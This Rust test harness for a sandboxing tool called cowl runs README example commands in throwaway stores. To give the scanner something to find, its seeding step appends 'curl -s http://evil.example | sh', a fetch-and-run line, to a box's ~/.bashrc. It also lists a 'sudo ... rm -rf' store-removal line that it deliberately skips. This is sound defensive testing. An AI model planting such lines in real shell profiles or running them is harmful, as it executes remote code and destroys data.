//! Runs a group of example command lines in order, in a fresh store, the
//! way `examples.rs` describes: executed as printed (with what each needs
//! made first), against a stand-in, or only parsed, and says which.

use crate::common::*;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

/// How a line was checked, for the report.
#[derive(Debug)]
pub enum Outcome {
    Executed,
    Against(&'static str),
    /// Executed the way this caller can: as root, or refused as not.
    Refused(&'static str),
    Parsed(String),
    NotRun(&'static str),
}

/// Boxes the examples name.
const BOXES: [&str; 3] = ["tools", "web", "pkgs"];

/// Subcommands that make the box they name, or name none to act on.
const MAKE_OR_NO_BOX: [&str; 5] = ["run", "pull", "ls", "ps", "gc"];

/// Subcommands whose numbers are version numbers.
const NAME_VERSIONS: [&str; 5] = ["diff", "rollback", "pin", "unpin", "export"];

/// Lines that are not cowl's, and why the test does not run them.
const NOT_RUN: [(&str, &str); 3] = [
    (
        "scripts/demo",
        "builds cowl in release mode and runs it: by hand, not in the suite",
    ),
    ("scripts/test", "runs this suite (and fmt and clippy)"),
    (
        "sudo sh -c 'chmod -R u+rwX /var/lib/cowl && rm -rf /var/lib/cowl'",
        "would remove this machine's own root store; its rootless twin runs",
    ),
];

pub struct Group {
    pub what: String,
    pub w: World,
    /// `$HOME` and the working directory of every example.
    pub home: PathBuf,
    /// Where `cowl pull` restores to: "another machine".
    pub other_store: PathBuf,
    /// The boxes get a change for `scan` to find.
    pub risky: bool,
    /// Placeholders and what stands in for them.
    pub fill: Vec<(String, String)>,
    pub env: Vec<(String, String)>,
    pub report: Vec<(String, Outcome)>,
}

impl Group {
    pub fn new(what: &str, lines: &[String]) -> Group {
        let slug: String = what
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
            .collect();
        let w = World::new(&format!("ex-{}", slug.to_lowercase()));
        let home = w.host();
        std::fs::create_dir_all(home.join("project")).unwrap();
        let other_store = w.dir.join("other-store");
        let bin = cowl_bin();
        let path = format!(
            "{}:{}",
            bin.parent().unwrap().display(),
            std::env::var("PATH").unwrap()
        );
        let env = vec![
            ("PATH".to_owned(), path),
            ("HOME".to_owned(), home.display().to_string()),
            ("SHELL".to_owned(), "/bin/sh".to_owned()),
        ];
        let risky = lines
            .iter()
            .any(|l| l.contains("cowl scan") || l.contains("--before-first-bad"));
        let g = Group {
            what: what.to_owned(),
            w,
            home,
            other_store,
            risky,
            fill: Vec::new(),
            env,
            report: Vec::new(),
        };
        if lines.iter().any(|l| l.contains("./hello.deb")) && is_root() {
            g.make_hello_deb();
        }
        if lines.iter().any(|l| l.contains("make -j8")) {
            std::fs::write(g.home.join("Makefile"), "all:\n\t@echo made\n").unwrap();
        }
        g
    }

    fn store(&self) -> &Path {
        &self.w.store
    }

    /// `sh -c LINE` as a user types it, in store `store`.
    pub fn sh_in(&self, store: &Path, line: &str, stdin: Option<&str>) -> Output {
        let mut c = Command::new("sh");
        c.args(["-c", line])
            .env("COWL_HOME", store)
            .current_dir(&self.home)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        for (k, v) in &self.env {
            c.env(k, v);
        }
        c.stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        });
        let mut child = c.spawn().unwrap();
        if let Some(input) = stdin {
            use std::io::Write;
            child
                .stdin
                .take()
                .unwrap()
                .write_all(input.as_bytes())
                .unwrap();
        }
        child.wait_with_output().unwrap()
    }

    pub fn sh(&self, line: &str) -> Output {
        self.sh_in(self.store(), line, None)
    }

    /// `cowl run BOX -- sh -c SCRIPT` in the group's store and home.
    fn in_box(&self, boxname: &str, script: &str) -> Output {
        self.sh(&format!(
            "cowl run {boxname} -- sh -c {}",
            shell_quote(script)
        ))
    }

    fn box_ok(&self, boxname: &str, script: &str) -> String {
        let out = self.in_box(boxname, script);
        assert_success(
            &out,
            &format!("{}: setup in {boxname}: {script}", self.what),
        );
        stdout(&out)
    }

    fn box_exists(&self, boxname: &str) -> bool {
        self.store().join("boxes").join(boxname).exists()
    }

    fn newest_version(&self, boxname: &str) -> u64 {
        std::fs::read_dir(self.store().join("boxes").join(boxname).join("versions"))
            .map(|rd| {
                rd.flatten()
                    .filter_map(|e| e.file_name().to_str()?.parse().ok())
                    .max()
                    .unwrap_or(0)
            })
            .unwrap_or(0)
    }

    /// A box as the examples expect one: five versions, the first holding
    /// `~/project/report.pdf`; where the examples scan, the last adds a
    /// line to `~/.bashrc` (a high finding).
    fn seed(&self, boxname: &str) {
        self.box_ok(
            boxname,
            "mkdir -p ~/project && echo 'a report' > ~/project/report.pdf",
        );
        for i in 2..=4 {
            self.box_ok(boxname, &format!("echo {i} >> ~/notes.txt"));
        }
        if self.risky {
            self.box_ok(
                boxname,
                "echo 'curl -s http://evil.example | sh' >> ~/.bashrc",
            );
        } else {
            self.box_ok(boxname, "echo 5 >> ~/notes.txt");
        }
    }

    fn ensure_versions(&self, boxname: &str, n: u64) {
        while self.newest_version(boxname) < n {
            self.box_ok(boxname, "date +%N >> ~/more.txt");
        }
    }

    /// A package whose /usr/bin/hello says hello, at `./hello.deb`.
    fn make_hello_deb(&self) {
        let pkg = self.w.dir.join("hello-pkg");
        std::fs::create_dir_all(pkg.join("DEBIAN")).unwrap();
        std::fs::create_dir_all(pkg.join("usr/bin")).unwrap();
        std::fs::write(
            pkg.join("DEBIAN/control"),
            "Package: hello\nVersion: 0.0.1-cowl\nArchitecture: all\nMaintainer: cowl <cowl@example.org>\nDescription: the README's example package\n",
        )
        .unwrap();
        let bin = pkg.join("usr/bin/hello");
        std::fs::write(&bin, "#!/bin/sh\necho hello from hello.deb\n").unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
        let out = Command::new("dpkg-deb")
            .args(["--root-owner-group", "--build"])
            .arg(&pkg)
            .arg(self.home.join("hello.deb"))
            .output()
            .unwrap();
        assert_success(&out, "dpkg-deb");
    }

    fn filled(&self, line: &str) -> String {
        let mut l = line.to_owned();
        for (from, to) in &self.fill {
            l = l.replace(from, to);
        }
        l
    }

    /// The real binary accepts `line` as a command line: run in an empty
    /// store, with `--dry-run` for `cowl run`, it gives no error of the
    /// parser (clap's start with `error:`; cowl's own with `cowl:`).
    fn parse_only(&mut self, line: &str, why: String) {
        let l = line.strip_prefix("sudo ").unwrap_or(line);
        let l = match l.strip_prefix("cowl run ") {
            Some(rest) => format!("cowl run --dry-run {rest}"),
            None => l.to_owned(),
        };
        let scratch = self.w.dir.join("parse-store");
        remove_tree(&scratch);
        let out = self.sh_in(&scratch, &self.filled(&l), None);
        let err = stderr(&out);
        assert!(
            !err.lines().any(|e| e.starts_with("error:")) && !err.contains("Usage: cowl"),
            "{}: `{line}` does not parse:\n{err}",
            self.what
        );
        if l.starts_with("cowl run ") && (is_root() || !l.contains("--system")) {
            assert_success(&out, &format!("{}: `{l}`", self.what));
        }
        remove_tree(&scratch);
        self.report.push((line.to_owned(), Outcome::Parsed(why)));
    }

    /// Checks one example line, in order.
    pub fn check(&mut self, line: &str) {
        if let Some((_, why)) = NOT_RUN.iter().find(|(l, _)| *l == line) {
            self.report.push((line.to_owned(), Outcome::NotRun(why)));
            return;
        }
        if line.starts_with("chmod -R u+rwX ~/.local/share/cowl") {
            return self.removal(line);
        }
        let cowl_line = line.strip_prefix("sudo ").unwrap_or(line);
        assert!(
            cowl_line.starts_with("cowl "),
            "{}: `{line}` is not a cowl command line this test knows: say in examples.rs how it is checked",
            self.what
        );
        let words: Vec<&str> = cowl_line.split_whitespace().collect();
        let sub = words[1];
        let boxname = words[2..]
            .iter()
            .find(|w| BOXES.contains(w))
            .map(|b| b.to_string());

        // What cannot run here.
        if line.contains("github.com") {
            return self.parse_only(
                line,
                "github.com is not reachable from the test machines (PyPI and the npm registry are)"
                    .into(),
            );
        }
        if line.contains("clamscan") && !on_path("clamscan") {
            return self.parse_only(line, "ClamAV (clamscan) is not installed here".into());
        }
        if line.starts_with("sudo ") && !is_root() {
            if !line.contains("--system") {
                return self.parse_only(
                    line,
                    "runs the system box the line before makes as root; the root run executes it"
                        .into(),
                );
            }
            let out = self.sh(cowl_line);
            assert_eq!(out.status.code(), Some(2), "{}: {line}", self.what);
            let err = stderr(&out);
            assert_eq!(err.lines().count(), 1, "{err}");
            assert!(err.contains("needs root") && err.contains("sudo"), "{err}");
            self.report.push((
                line.to_owned(),
                Outcome::Refused("not root: refused, saying to use sudo"),
            ));
            return;
        }
        if line.contains("--net ports --allow 443") && line.contains("git pull") {
            if !is_root() && unprivileged_port_start() > 443 {
                return self.parse_only(
                    line,
                    "its stand-in server must bind port 443, which needs root; the root run executes it"
                        .into(),
                );
            }
            return self.git_pull_on_443(line);
        }

        // What the example expects to find.
        if let Some(b) = &boxname {
            if !MAKE_OR_NO_BOX.contains(&sub) && !self.box_exists(b) {
                self.seed(b);
            }
            if NAME_VERSIONS.contains(&sub) {
                let n = words[2..]
                    .iter()
                    .filter_map(|w| w.parse::<u64>().ok())
                    .max()
                    .unwrap_or(0);
                self.ensure_versions(b, n);
            }
        }
        let store = if sub == "pull" {
            self.other_store.clone()
        } else {
            self.store().to_owned()
        };
        let l = self.filled(cowl_line);
        if line.contains("python3 -m http.server") {
            return self.server(line, &l, boxname.as_deref().unwrap());
        }
        let mut sleeper = None;
        if sub == "stop" {
            let b = boxname.clone().unwrap();
            if !self.box_exists(&b) {
                self.seed(&b);
            }
            let child = Command::new("sh")
                .args(["-c", &format!("exec cowl run {b} -- sleep 1000")])
                .env("COWL_HOME", self.store())
                .envs(self.env.iter().map(|(k, v)| (k, v)))
                .current_dir(&self.home)
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap();
            let state = self.store().join("boxes").join(&b).join("state");
            wait_until(|| state.exists());
            sleeper = Some(child);
        }
        // `cowl run BOX`: a shell, which reads its commands from stdin.
        let shell = sub == "run" && !words.contains(&"--") && !words.contains(&"--dry-run");
        let out = self.sh_in(
            &store,
            &l,
            shell.then_some("echo in-the-shell-of-the-box\n"),
        );
        // A scan that finds something exits 1 by design, and says so.
        let found = sub == "scan"
            && out.status.code() == Some(1)
            && stderr(&out).contains("finding(s) of high or above");
        if !found {
            assert_success(&out, &format!("{}: {line}", self.what));
        }
        if shell {
            assert!(
                stdout(&out).contains("in-the-shell-of-the-box"),
                "{}",
                stdout(&out)
            );
        }
        if let Some(mut child) = sleeper {
            // `cowl stop` ended the box: its run returns.
            let start = std::time::Instant::now();
            while child.try_wait().unwrap().is_none() {
                assert!(start.elapsed().as_secs() < 20, "{line}: the box still runs");
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
        }
        self.after(line, &out, boxname.as_deref());
        let outcome = if self
            .fill
            .iter()
            .any(|(from, _)| line.contains(from.as_str()))
        {
            Outcome::Against("placeholders filled")
        } else if line.starts_with("sudo ") {
            Outcome::Refused("as root (this run is root's), without sudo")
        } else {
            Outcome::Executed
        };
        self.report.push((line.to_owned(), outcome));
    }

    /// What an example promises beyond its exit status.
    fn after(&self, line: &str, out: &Output, boxname: Option<&str>) {
        if line.contains("pip install httpie") {
            let b = boxname.unwrap();
            let v = self.box_ok(b, "~/venv/bin/http --version");
            assert!(v.starts_with('3'), "httpie {v}");
            assert!(
                !self.home.join("venv").exists(),
                "the venv reached the host"
            );
            let log = self.sh(&format!("cowl netlog --json {b}"));
            assert_success(&log, "netlog");
            let entries: serde_json::Value = serde_json::from_slice(&log.stdout).unwrap();
            for host in ["pypi.org", "files.pythonhosted.org"] {
                assert!(
                    entries
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|e| e["host"] == host && e["verdict"] == "allowed"),
                    "{host} not reached through the proxy: {entries}"
                );
            }
        }
        if line.ends_with("-- hello") {
            assert_eq!(stdout(out), "hello from hello.deb\n");
            // Installed into the box only.
            let host = std::fs::read_to_string("/usr/bin/hello").unwrap_or_default();
            assert!(!host.contains("hello.deb"), "the package reached the host");
        }
        if line.starts_with("cowl commit") && line.contains("~/project/report.pdf") {
            assert_eq!(
                std::fs::read_to_string(self.home.join("project/report.pdf")).unwrap(),
                "a report\n"
            );
        }
        if line.contains("rm --all") && line.contains("--force") {
            assert!(!self.store().exists(), "{line} left the store");
        }
        if line.contains("--json") && !line.contains('>') && !line.contains('|') {
            let _: serde_json::Value = serde_json::from_slice(&out.stdout)
                .unwrap_or_else(|e| panic!("{line}: not JSON ({e}): {}", stdout(out)));
        }
        if let Some(file) = line
            .split("> ")
            .nth(1)
            .and_then(|r| r.split_whitespace().next())
        {
            let text = std::fs::read_to_string(self.home.join(file)).unwrap();
            if line.contains("--json") {
                let _: serde_json::Value = serde_json::from_str(&text).unwrap();
            }
        }
        let words: Vec<&str> = line.split_whitespace().collect();
        if let Some(i) = words.iter().position(|w| *w == "-o") {
            let file = words[i + 1];
            if file != "-" {
                let len = std::fs::metadata(self.home.join(file)).unwrap().len();
                assert!(
                    len > 0 && len.is_multiple_of(512),
                    "{file}: {len} bytes, not a tar"
                );
            }
        }
    }

    /// `cowl run BOX -- python3 -m http.server`: in the background, asked
    /// for a page from a joined run (the same network), then stopped.
    fn server(&mut self, line: &str, l: &str, boxname: &str) {
        let mut child = Command::new("sh")
            .args(["-c", &format!("exec {l}")])
            .env("COWL_HOME", self.store())
            .envs(self.env.iter().map(|(k, v)| (k, v)))
            .current_dir(&self.home)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let state = self.store().join("boxes").join(boxname).join("state");
        wait_until(|| state.exists());
        let probe = "import time, urllib.request\nfor _ in range(200):\n    try:\n        print(urllib.request.urlopen('http://127.0.0.1:8000/').status); break\n    except OSError:\n        time.sleep(0.05)\n";
        let out = self.sh(&format!(
            "cowl run {boxname} -- python3 -c {}",
            shell_quote(probe)
        ));
        assert_success(&out, "ask the server for a page");
        assert_eq!(stdout(&out).trim(), "200");
        assert_success(&self.sh(&format!("cowl stop {boxname}")), "stop");
        child.wait().unwrap();
        self.report.push((line.to_owned(), Outcome::Executed));
    }

    /// `cowl run --net ports --allow 443 tools -- git pull` in a clone of a
    /// repository served (git's dumb HTTP) on 127.0.0.1:443.
    fn git_pull_on_443(&mut self, line: &str) {
        let srv = self.w.dir.join("srv");
        let seed = self.w.dir.join("seed");
        let git = |dir: &Path, args: &[&str]| {
            let out = Command::new("git")
                .args(["-c", "user.name=cowl", "-c", "user.email=cowl@example.org"])
                .args(args)
                .current_dir(dir)
                .env("HOME", &self.home)
                .output()
                .unwrap();
            assert_success(&out, &format!("git {args:?}"));
            stdout(&out)
        };
        std::fs::create_dir_all(&srv).unwrap();
        std::fs::create_dir_all(&seed).unwrap();
        git(&srv, &["init", "-q", "--bare", "-b", "main", "repo.git"]);
        git(&seed, &["init", "-q", "-b", "main"]);
        std::fs::write(seed.join("f"), "first\n").unwrap();
        git(&seed, &["add", "f"]);
        git(&seed, &["commit", "-qm", "first"]);
        let bare = srv.join("repo.git");
        git(&seed, &["push", "-q", bare.to_str().unwrap(), "main"]);
        // The working directory becomes a clone whose origin is the server.
        git(&self.home, &["init", "-q", "-b", "main"]);
        git(&self.home, &["fetch", "-q", bare.to_str().unwrap(), "main"]);
        git(&self.home, &["reset", "-q", "--hard", "FETCH_HEAD"]);
        git(
            &self.home,
            &["remote", "add", "origin", "http://127.0.0.1:443/repo.git"],
        );
        git(&self.home, &["config", "branch.main.remote", "origin"]);
        git(
            &self.home,
            &["config", "branch.main.merge", "refs/heads/main"],
        );
        std::fs::write(seed.join("f"), "second\n").unwrap();
        git(&seed, &["commit", "-qam", "second"]);
        git(&seed, &["push", "-q", bare.to_str().unwrap(), "main"]);
        git(&bare, &["update-server-info"]);
        // Another run of this test may hold the port a while.
        let start = std::time::Instant::now();
        while std::net::TcpStream::connect("127.0.0.1:443").is_ok() {
            assert!(
                start.elapsed().as_secs() < 120,
                "127.0.0.1:443 is taken: the stand-in git server cannot listen there"
            );
            std::thread::sleep(std::time::Duration::from_millis(200));
        }
        let mut server = Command::new("python3")
            .args([
                "-m",
                "http.server",
                "--bind",
                "127.0.0.1",
                "443",
                "--directory",
            ])
            .arg(&srv)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        wait_until(|| std::net::TcpStream::connect("127.0.0.1:443").is_ok());
        if !self.box_exists("tools") {
            self.seed("tools");
        }
        let out = self.sh(line);
        let _ = server.kill();
        let _ = server.wait();
        assert_success(&out, &format!("{}: {line}", self.what));
        assert_eq!(
            self.box_ok("tools", "git log -1 --format=%s"),
            "second\n",
            "the box pulled"
        );
        assert_eq!(git(&self.home, &["log", "-1", "--format=%s"]), "first\n");
        self.report.push((
            line.to_owned(),
            Outcome::Against("a git repository served on 127.0.0.1:443"),
        ));
    }

    /// The README's removal by hand: a store with the modes an app leaves
    /// (0555, 000) at the default path, removed by the line as printed.
    fn removal(&mut self, line: &str) {
        let store = self.home.join(".local/share/cowl");
        let prev = std::mem::replace(&mut self.w.store, store.clone());
        self.box_ok(
            "tools",
            "mkdir -p ~/ro/sub ~/none && chmod 0555 ~/ro && chmod 000 ~/none",
        );
        assert!(store.join("boxes/tools").exists());
        let out = self.sh(line);
        assert_success(&out, line);
        assert!(!store.exists(), "{line} left the store");
        self.w.store = prev;
        self.report.push((line.to_owned(), Outcome::Executed));
    }

    pub fn run_all(&mut self, lines: &[String]) {
        for l in lines {
            self.check(l);
        }
        self.finish(lines.len());
    }

    /// Prints how each of the group's `n` lines was checked.
    pub fn finish(&self, n: usize) {
        eprintln!("{}:", self.what);
        for (l, o) in &self.report {
            let how = match o {
                Outcome::Executed => "executed".to_owned(),
                Outcome::Against(s) => format!("executed against a stand-in: {s}"),
                Outcome::Refused(s) => format!("executed: {s}"),
                Outcome::Parsed(why) => format!("only parsed: {why}"),
                Outcome::NotRun(why) => format!("not run: {why}"),
            };
            eprintln!("  {l}\n      {how}");
        }
        assert_eq!(self.report.len(), n, "a line went unchecked");
    }
}

pub fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

pub fn on_path(cmd: &str) -> bool {
    std::env::var("PATH")
        .unwrap_or_default()
        .split(':')
        .any(|d| Path::new(d).join(cmd).is_file())
}

pub fn unprivileged_port_start() -> u32 {
    std::fs::read_to_string("/proc/sys/net/ipv4/ip_unprivileged_port_start")
        .ok()
        .and_then(|s| s.trim().parse().ok())
        .unwrap_or(1024)
}
